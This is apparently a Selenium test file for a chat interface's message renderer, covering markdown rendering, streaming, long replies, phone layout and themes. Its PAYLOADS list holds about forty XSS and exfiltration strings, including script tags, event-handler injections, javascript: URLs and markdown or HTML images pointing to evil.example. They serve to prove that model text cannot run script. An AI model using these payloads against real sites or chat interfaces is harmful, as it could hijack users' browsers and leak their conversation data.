"""How model text is shown: as elements of a few kinds, never as HTML; in a real browser."""

from __future__ import annotations

import io
from typing import Any

import pytest

pytest.importorskip("selenium", reason="needs selenium")

from selenium.webdriver.remote.webelement import WebElement

from tests.python.server.http.running_server import Running
from tests.python.server.page.tab import Tab
from tests.python.server.page.test_page_markdown import SAMPLES

HIT = "window.hit=1"
PAYLOADS = [
    f"<script>{HIT}</script>",
    f"<script type=module>{HIT}</script>",
    "<script src=/page/evil.js></script>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={HIT}>",
    "<img src=/stolen?text=secret>",
    "<img src=https://evil.example/stolen>",
    f"<svg onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<math><mtext><img src=x onerror={HIT}></mtext></math>",
    f"<iframe src=javascript:{HIT}></iframe>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    f"<object data=javascript:{HIT}></object>",
    "<embed src=/stolen>",
    f"<body onload={HIT}>",
    f"<details open ontoggle={HIT}>x</details>",
    f"<input autofocus onfocus={HIT}>",
    f"<video><source onerror={HIT}></video>",
    f"<audio src=x onerror={HIT}>",
    "<link rel=stylesheet href=/stolen.css>",
    "<link rel=prefetch href=https://evil.example/>",
    "<style>@import '/stolen.css';</style>",
    "<style>*{background:url(/stolen.png)}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    f"<form action=javascript:{HIT}><button>x</button></form>",
    f"<a href=javascript:{HIT}>click</a>",
    f"[click](javascript:{HIT})",
    "![image](/stolen?text=secret)",
    "![image](https://evil.example/stolen)",
    "[a]: https://evil.example/\n[a]",
    "<https://evil.example/>",
    f"```html\n<img src=x onerror={HIT}>\n```",
    f"`<img src=x onerror={HIT}>`",
    f"**<img src=x onerror={HIT}>**",
    f"- <img src=x onerror={HIT}>\n1. <svg onload={HIT}>",
    f"# <img src=x onerror={HIT}>",
    f"```\n</code></pre><script>{HIT}</script>",
    f"&lt;img src=x onerror={HIT}&gt; &#60;script&#62;{HIT}",
    f"<template shadowrootmode=open><img src=x onerror={HIT}></template>",
    f"<x onclick={HIT} style='position:fixed;inset:0' tabindex=0 autofocus onfocus={HIT}>",
    f"\u202e<img src=x onerror={HIT}>\u0000<scr\u0000ipt>{HIT}</script>",
]

# Shows a text as it grows, and returns what is in the document then.
SHOW = """
const [texts, role, done] = arguments;
import("/page/transcript.js").then(async ({ MessageView }) => {
  const place = document.querySelector("#transcript");
  const found = [];
  for (const text of texts) {
    const message = { role, content: "" };
    const view = new MessageView(message);
    place.append(view.element);
    for (let at = 0; at < text.length; at += 3) {
      message.content = text.slice(0, at + 3);
      view.update();
    }
    const elements = [...view.element.querySelectorAll("*")];
    found.push({
      text: view.element.textContent,
      tags: [...new Set(elements.map((one) => one.tagName))].sort(),
      attributes: [...new Set(elements.flatMap((one) => one.getAttributeNames()))].sort(),
    });
  }
  await new Promise((resolve) => setTimeout(resolve, 300));
  done(found);
}).catch((error) => done(String(error)));
"""
TAGS = {"BUTTON", "CODE", "DIV", "EM", "H2", "LI", "OL", "P", "PRE", "SPAN", "STRONG", "UL"}
ATTRIBUTES = {"aria-label", "class", "data-language", "dir", "hidden", "start", "type"}
MARKUP = str.maketrans("", "", "`*#-\n 1.[]()!<>")


def asked(tab: Tab) -> list[str]:
    """Return what the page has loaded since it was opened."""
    names: list[str] = tab.run("return performance.getEntriesByType('resource').map(e => e.name)")
    return [name for name in names if not name.endswith(".js")]


@pytest.mark.parametrize("role", ["assistant", "user"])
def test_no_text_of_a_model_runs_or_loads_anything(server: Running, tab: Tab, role: str) -> None:
    assert len(set(PAYLOADS)) >= 40
    tab.open(server)
    tab.until(lambda: any("/v1/sessions" in one for one in asked(tab)), "the chats are listed")
    before = asked(tab)
    found: list[dict[str, Any]] = tab.browser.execute_async_script(SHOW, PAYLOADS, role)
    for payload, shown in zip(PAYLOADS, found, strict=True):
        assert set(shown["tags"]) <= TAGS, payload
        assert set(shown["attributes"]) <= ATTRIBUTES, payload
        bare = payload.replace("```html", "").replace("```", "").translate(MARKUP)
        assert bare in shown["text"].translate(MARKUP), payload
    assert tab.run("return window.hit") is None
    assert asked(tab) == before
    assert tab.run("return document.querySelectorAll('script').length") == 1
    assert tab.run("return document.querySelectorAll('#transcript a, img, iframe').length") == 0
    tab.check_clean()


def test_the_check_sees_what_it_looks_for(server: Running, tab: Tab) -> None:
    """The same payloads as HTML do break the policy: the counter works."""
    tab.open(server)
    tab.run(
        "document.querySelector('#transcript').innerHTML = arguments[0]", "\n".join(PAYLOADS[4:9])
    )
    tab.until(lambda: len(tab.run("return window.violations")) >= 2, "the policy stops them")
    assert tab.run("return window.hit") is None
    tab.browser.get_log("browser")


def test_a_title_is_text_too(server: Running, tab: Tab) -> None:
    tab.open(server)
    payload = f"<img src=x onerror={HIT}>"
    tab.say(payload)
    tab.until(lambda: payload in tab.titles(), "it is listed")
    assert tab.text("h1") == payload
    assert tab.run("return document.querySelectorAll('img').length") == 0
    assert tab.run("return window.hit") is None
    tab.check_clean()


SAMPLE = """# A heading

A paragraph with **bold words**, `code` and 2 * 3 * 4.
Its second line.

- one
- two **bold**
  goes on
1. first
2. second

```python
def f(x):

    return x  # **not bold**
```
After it.

~~~
open ``` code
"""

STRUCTURE = """
const [texts, step, done] = arguments;
import("/page/transcript.js").then(({ MessageView }) => {
  done(texts.map((text) => {
    const message = { role: "assistant", content: "" };
    const view = new MessageView(message);
    for (let at = 0; at < text.length; at += step) {
      message.content = text.slice(0, at + step);
      view.update();
    }
    const body = view.element.children[1];
    return [...body.children].map((one) => [one.tagName, one.className, one.innerHTML]);
  }));
}).catch((error) => done(String(error)));
"""


def test_paragraphs_lists_and_code_are_shown(server: Running, tab: Tab) -> None:
    tab.open(server)
    (found,) = tab.browser.execute_async_script(STRUCTURE, [SAMPLE], 1 << 20)
    bold = "<strong>bold words</strong>"
    copy = '<button class="copy" type="button" aria-label="Copy code"></button>'
    words = ["def", "return"]
    assert found == [
        ["H2", "level1 heading block", "A heading"],
        ["P", "text block", f"A paragraph with {bold}, <code>code</code> and 2 * 3 * 4.\n"
         "Its second line."],
        ["UL", "list block", '<li dir="auto">one</li><li dir="auto">two <strong>bold</strong>\n'
         "goes on</li>"],
        ["OL", "list block", '<li dir="auto">first</li><li dir="auto">second</li>'],
        ["DIV", "code block", f"{copy}<pre><code>"
         f'<span class="word">{words[0]}</span> f(x):\n\n    '
         f'<span class="word">{words[1]}</span> x  '
         '<span class="comment"># **not bold**</span>\n</code></pre>'],
        ["P", "text block", "After it."],
        ["DIV", "code block", f"{copy}<pre><code>open ``` code\n</code></pre>"],
    ]  # fmt: skip


def test_a_text_that_grows_is_shown_as_the_whole(server: Running, tab: Tab) -> None:
    long = "word " * 3000 + "\n\n```\n" + "line of code\n" * 1000 + "```\n" + "- item\n" * 1500
    table = "| a | b |\n|---|---|\n" + "| some | cells |\n" * 800
    deep = "- a\n\n  ```\n" + "  code\n" * 1500 + "  ```\n- b\n" + "> quoted\n" * 900
    broken = [long, table, deep, "x" * 70000, "🌊" * 35000]
    texts = [SAMPLE, SAMPLE * 3, *broken, *SAMPLES, *PAYLOADS]
    tab.open(server)
    whole = tab.browser.execute_async_script(STRUCTURE, texts, 1 << 20)
    for step in (1, 97):
        some = texts if step > 1 else [SAMPLE, *SAMPLES, *PAYLOADS]
        grown = tab.browser.execute_async_script(STRUCTURE, some, step)
        assert grown == ([whole[texts.index(text)] for text in some]), step


def test_a_very_long_reply_stays_small_in_the_document(server: Running, tab: Tab) -> None:
    script = """
    const done = arguments[arguments.length - 1];
    import("/page/transcript.js").then(({ MessageView }) => {
      const message = { role: "assistant", content: "" };
      const view = new MessageView(message);
      document.querySelector("#transcript").append(view.element);
      let most = 0;
      for (let number = 0; number < 3000; number += 1) {
        message.content += `paragraph ${number} ${"and so on ".repeat(20)}\\n\\n`;
        view.update();
        most = Math.max(most, view.element.querySelectorAll("*").length);
      }
      const texts = () => [...view.element.querySelectorAll(".block")]
        .map((one) => one.textContent.split(" ")[1]).map(Number);
      const last = texts();
      view.earlier.click();
      done([most, message.content.length, last, texts(), view.later.hidden]);
    }).catch((error) => done(String(error)));
    """
    tab.open(server)
    most, length, last, earlier, is_hidden = tab.browser.execute_async_script(script)
    assert length > 600_000
    assert most <= 103
    assert last == list(range(2900, 3000))
    assert earlier == list(range(2850, 2950))
    assert not is_hidden


WIDE = "x" * 500 + "\n\n```\n" + "code " * 200 + "\n```\n\n| " + "cell | " * 60


def test_a_phone_needs_no_horizontal_scrolling(server: Running, tab: Tab) -> None:
    tab.open(server, width=360, height=640)
    assert not tab.is_shown("#sidebar")
    tab.say("w" * 300)
    tab.browser.execute_async_script(SHOW, [WIDE], "assistant")
    widths = "return [document.documentElement.scrollWidth, document.body.scrollWidth, innerWidth]"
    assert tab.run(widths) == [360, 360, 360]
    inner = "const e = document.querySelector('#transcript'); return e.scrollWidth - e.clientWidth"
    assert tab.run(inner) == 0
    tab.one("#toggle-list").click()
    assert tab.is_shown("#new-chat")
    assert tab.one("#toggle-list").get_attribute("aria-expanded") == "true"
    assert tab.run(widths) == [360, 360, 360]
    tab.one("#toggle-list").click()  # it is not covered
    assert not tab.is_shown("#sidebar")
    tab.one("#toggle-settings").click()
    assert tab.run(widths) == [360, 360, 360]
    small = """
      return [...document.querySelectorAll("button, input, select, textarea, summary, nav a")]
      .filter((one) => one.checkVisibility({ opacityProperty: true }))
      .map((one) => (one.type === "checkbox" ? one.labels[0] : one).getBoundingClientRect())
      .filter((one) => one.height < 44).length"""
    assert tab.run(small) == 0
    tab.check_clean()


def test_a_wide_table_and_code_show_that_they_go_on(server: Running, tab: Tab) -> None:
    """At the side where more is hidden, and only there."""
    image = pytest.importorskip("PIL.Image")
    tab.open(server, width=390)
    words = " | ".join(f"column {number}" for number in range(12))
    table = f"| {words} |\n{'|---' * 12}|\n| {words} |\n"
    texts = [table, f"```\n{'wide ' * 40}\n```\n"]
    tab.browser.execute_async_script(SHOW, texts, "assistant")

    def edges(element: WebElement) -> list[int]:
        picture = image.open(io.BytesIO(element.screenshot_as_png)).convert("L")
        return [picture.getpixel((x, 3)) for x in (6, picture.width - 3)]

    for selector in (".table", ".code pre"):
        (element,) = tab.browser.find_elements("css selector", f"#transcript > div {selector}")
        tab.run("arguments[0].scrollIntoView()", element)
        left, right = edges(element)
        assert left > right + 15, selector
        tab.run("arguments[0].scrollLeft = 1e6", element)
        left, right = edges(element)
        assert right > left + 15, selector


def test_dark_and_light_follow_the_system(server: Running, tab: Tab) -> None:
    tab.open(server)
    script = "return getComputedStyle(document.body).backgroundColor"
    colors = []
    for value in ("light", "dark"):
        features = {"features": [{"name": "prefers-color-scheme", "value": value}]}
        tab.browser.execute_cdp_cmd("Emulation.setEmulatedMedia", features)
        channels = str(tab.run(script)).strip("rgb()").split(",")
        colors.append(sum(int(channel) for channel in channels))
    tab.browser.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": []})
    assert colors[0] > 600
    assert colors[1] < 150
